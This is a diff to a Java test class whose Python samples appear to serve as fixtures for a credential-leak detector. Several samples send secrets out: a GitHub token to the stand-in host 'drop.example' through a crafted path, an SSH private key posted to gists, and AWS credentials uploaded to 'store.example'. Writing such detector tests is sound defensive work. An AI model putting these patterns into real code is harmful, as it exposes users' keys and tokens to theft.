@@ -48,6 +48,21 @@ final class PythonServices {
             from minio import Minio
             store = Minio('store.example', access_key='inert', secret_key='inert')
             store.fput_object('b', 'k', os.path.expanduser('~/.aws/credentials'))
+            """),
+        Sample.imported(
+            "a token signs in where the name of a code host only begins another",
+            asking("get('.drop.example/x')")),
+        Sample.imported(
+            "a token signs in to whatever a file puts after the name of a code host",
+            asking("get(open('/tmp/next').read())")),
+        Sample.imported(
+            "a code host is asked with a token, and told more than that",
+            """
+            import os, urllib.request
+            key = open(os.path.expanduser('~/.ssh/id_rsa')).read()
+            urllib.request.urlopen(urllib.request.Request(
+                'https://api.github.com/gists', key.encode(),
+                {'Authorization': 'token ' + os.environ['GITHUB_TOKEN']}))
             """));
   }
 
@@ -68,6 +83,34 @@ final class PythonServices {
             from minio import Minio
             store = Minio('store.example', secret_key=os.environ.get('AWS_SECRET_ACCESS_KEY'))
             store.put_object('b', 'k', 'text')
-            """));
+            """),
+        Sample.imported(
+            "a token signs in to a code host whose name ends before what is filled in",
+            asking(
+                """
+                @task
+                def tree(name):
+                    return get(f'/repos/sample/sample/git/trees/{name}')
+                tree('main')
+                """)));
+  }
+
+  /** A program that asks a code host with the token of its user. */
+  private static String asking(String then) {
+    return """
+    import json, os, urllib.request
+    from sample_flows import task
+    def headers():
+        headers = {'Accept': 'application/json'}
+        token = os.environ.get('GITHUB_TOKEN')
+        if token:
+            headers['Authorization'] = f'Bearer {token}'
+        return headers
+    def get(path):
+        request = urllib.request.Request(f'https://api.github.com{path}', headers=headers())
+        with urllib.request.urlopen(request, timeout=30) as answer:
+            return json.loads(answer.read())
+    """
+        + then;
   }
 }
